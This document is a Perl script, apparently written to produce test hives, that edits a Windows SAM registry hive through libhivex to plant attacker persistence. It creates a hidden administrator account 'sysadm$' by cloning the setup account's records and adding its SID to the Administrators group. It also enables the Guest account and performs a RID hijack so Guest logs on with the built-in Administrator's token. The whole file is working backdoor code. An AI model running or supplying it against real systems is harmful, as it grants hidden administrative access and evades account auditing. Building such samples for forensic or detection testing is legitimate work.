#!/usr/bin/perl
# Plants account persistence into a copy of a real SAM hive, through libhivex (Win::Hivex), as an attacker's
# "net user" + RID hijack would leave it:
#   - a hidden account "sysadm$" (RID 1001), enabled, a member of Administrators: its F and V values are those of the
#     setup account (RID 1000) with the RID and the name changed, and its SID is appended to the Administrators
#     alias's C value (member count and list length updated);
#   - the Guest account (RID 501) enabled, with the RID in its F value set to 500 (RID hijack: Guest logs on with
#     the built-in Administrator's token).
# usage: sam-evasion.pl SAMFILE
use strict;
use warnings;
use Win::Hivex;

my $file = shift or die "usage: $0 SAMFILE\n";
my $h = Win::Hivex->open($file, write => 1) or die "$file: $!\n";

sub child {
	my ($node, @path) = @_;
	for my $name (@path) {
		$node = $h->node_get_child($node, $name) or die "$file: no key $name\n";
	}
	return $node;
}

sub value {
	my ($node, $name) = @_;
	my $v = $h->node_get_value($node, $name) or die "$file: no value $name\n";
	my ($type, $data) = $h->value_value($v);
	return $data;
}

# Replaces or adds values of a node, keeping the others (node_set_value does exactly that).
sub set {
	my ($node, $name, $type, $data) = @_;
	$h->node_set_value($node, { key => $name, t => $type, value => $data });
}

my $users = child($h->root, qw(SAM Domains Account Users));
my $setup = child($users, '000003E8');
my ($f, $v) = (value($setup, 'F'), value($setup, 'V'));

# The new account: F with RID 0x3E9 at 0x30, normal account (0x0010) and enabled.
substr($f, 0x30, 4) = pack('V', 0x3e9);
substr($f, 0x38, 2) = pack('v', 0x0010);
# V: the name sits where descriptor 1 (at 0x0C) says, relative to the 0xCC-byte table; same length (7 characters).
my ($noff, $nlen) = unpack('V V', substr($v, 0x0c, 8));
my $name = 'sysadm$';
die "$file: setup account name is $nlen bytes, want " . 2 * length($name) . "\n" unless $nlen == 2 * length($name);
substr($v, 0xcc + $noff, $nlen) = join('', map { pack('v', ord) } split //, $name);
my $new = $h->node_add_child($users, '000003E9');
set($new, 'F', 3, $f);
set($new, 'V', 3, $v);
my $names = child($users, 'Names');
my $nk = $h->node_add_child($names, $name);
set($nk, '', 0x3e9, '');    # the default value's type is the RID, as the SAM stores it

# Guest: enabled, and its F value's RID made 500.
my $guest = child($users, '000001F5');
my $gf = value($guest, 'F');
substr($gf, 0x30, 4) = pack('V', 500);
substr($gf, 0x38, 2) = pack('v', unpack('v', substr($gf, 0x38, 2)) & ~0x0001);
set($guest, 'F', 3, $gf);

# Administrators (alias 0x220): append the new account's SID to the member list at the end of C.
my $admins = child($h->root, qw(SAM Domains Builtin Aliases 00000220));
my $c = value($admins, 'C');
my ($moff, $mlen, $count) = unpack('V V V', substr($c, 0x28, 12));
die "$file: Administrators member list does not end the C value\n" unless 0x34 + $moff + $mlen == length($c);
my $last = substr($c, length($c) - 28, 28);    # the setup account's SID: S-1-5-21-a-b-c-1000
substr($last, 24, 4) = pack('V', 0x3e9);
$c .= $last;
substr($c, 0x2c, 8) = pack('V V', $mlen + 28, $count + 1);
set($admins, 'C', 3, $c);

$h->commit(undef);
